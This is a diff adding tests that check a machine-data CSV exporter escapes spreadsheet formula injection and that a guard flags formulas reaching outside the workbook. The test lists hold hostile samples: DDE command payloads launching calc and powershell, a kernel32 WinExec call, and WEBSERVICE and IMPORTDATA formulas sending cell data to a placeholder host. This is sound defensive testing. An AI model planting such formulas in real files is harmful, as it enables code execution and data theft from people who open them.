@@ -14,6 +14,7 @@ import {
   type WorkbookRequest,
 } from "@/modules/vendor-data";
 import { fakeExecutable, makeZip, truncatedZip, zipBomb } from "./zip-fixtures";
+import { outsideReachOfFormula } from "@/modules/vendor-data/formula-guard";
 
 function exampleMachines(file: string): MachineInput[] {
   const parsed = parseAnalysisInput(JSON.parse(readFileSync(path.join(process.cwd(), "examples", file), "utf8")));
@@ -165,5 +166,47 @@ describe("machine data CSV", () => {
     const csv = buildMachineCsv(blower.map((m) => ({ name: m.name, values: m }))).replace(",3570,", ",fast,");
     const read = await readMachineDataUpload(Buffer.from(csv), expectFor(blower));
     expect(!read.ok && read.problems[0]).toMatchObject({ sheet: "CSV", cell: "N2", message: expect.stringMatching(/Rated speed: expected a number in rpm/) });
+  });
+});
+
+describe("spreadsheet text cannot run", () => {
+  it("the CSV template escapes vendor text a spreadsheet would run, keeps negative numbers, and reads the text back unchanged", async () => {
+    const hostile = ["=cmd|' /C calc'!A0", "+HYPERLINK(\"http://x.invalid\")", "-2+3", "@SUM(A1)", "\tTab-led", "\rCR-led"];
+    const machines = pumpTrain.map((m, i) => ({ ...m, name: hostile[i % hostile.length]!, rotors: m.rotors.map((r, k) => ({ ...r, name: hostile[(i + k + 1) % hostile.length]! })) }));
+    const csv = buildMachineCsv(machines.map((m) => ({ name: m.name, values: m })));
+    const fields = csv.split(/\r\n/).slice(1).filter(Boolean).flatMap((line) => line.split(","));
+    for (const f of fields) expect(f.replace(/^"/, ""), f).not.toMatch(/^[=+@\t\r]/);
+    // A negative coordinate is written as a number (unquoted, unescaped).
+    expect(fields.some((f) => /^-\d/.test(f))).toBe(pumpTrain.some((m) => m.cg.some((c) => c < 0) || m.rotors.some((r) => r.bearings.flat().some((c) => c < 0))));
+    expect(csv).toContain("'=cmd|' /C calc'!A0");
+    const read = await readMachineDataUpload(Buffer.from(csv), expectFor(pumpTrain));
+    expect(read.ok && read.machines.map((m) => [m.name, ...m.rotors.map((r) => r.name)])).toEqual(machines.map((m) => [m.name.trim(), ...m.rotors.map((r) => r.name.trim())]));
+  });
+
+  it("names formulas that reach outside the file and lets formulas within it pass", () => {
+    const outside = [
+      "cmd|' /C calc'!A0",
+      "=cmd|'/c powershell'!A1",
+      "WEBSERVICE(\"http://x.invalid/?\"&A1)",
+      "_xlfn.WEBSERVICE(\"http://x.invalid\")",
+      "_xlfn.FILTERXML(B1,\"//a\")",
+      "HYPERLINK(\"http://x.invalid\",\"open\")",
+      "'[other.xlsx]Sheet1'!A1",
+      "[1]Sheet1!A1",
+      "'C:\\data\\[x.xlsx]Sheet1'!B2",
+      "SUM('https://x.invalid/[book.xlsx]S'!A1:A3)",
+      "[1]!Rate",
+      "RTD(\"prog.id\",,\"x\")",
+      "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
+      "REGISTER.ID(\"x\",\"y\")",
+      "IMPORTDATA(\"http://x.invalid/a.csv\")",
+      "IMPORTXML(\"http://x.invalid\",\"//a\")",
+      "INDIRECT(\"'[x.xlsx]S'!A1\")",
+      "INDIRECT(A1)",
+      "1+ hyperlink (\"http://x\")",
+    ];
+    for (const f of outside) expect(outsideReachOfFormula(f), f).not.toBeNull();
+    const inside = ["2.1+0.15", "SUM(A1:A3)*2", "'Machine 1'!C5*1000", "Sheet1:Sheet3!A1", "INDIRECT(\"C5\")", "IF(A1>0,\"call me | later\",0)", "Table1[Mass]*2", "\"HYPERLINK(\"", "PI()*2"];
+    for (const f of inside) expect(outsideReachOfFormula(f), f).toBeNull();
   });
 });
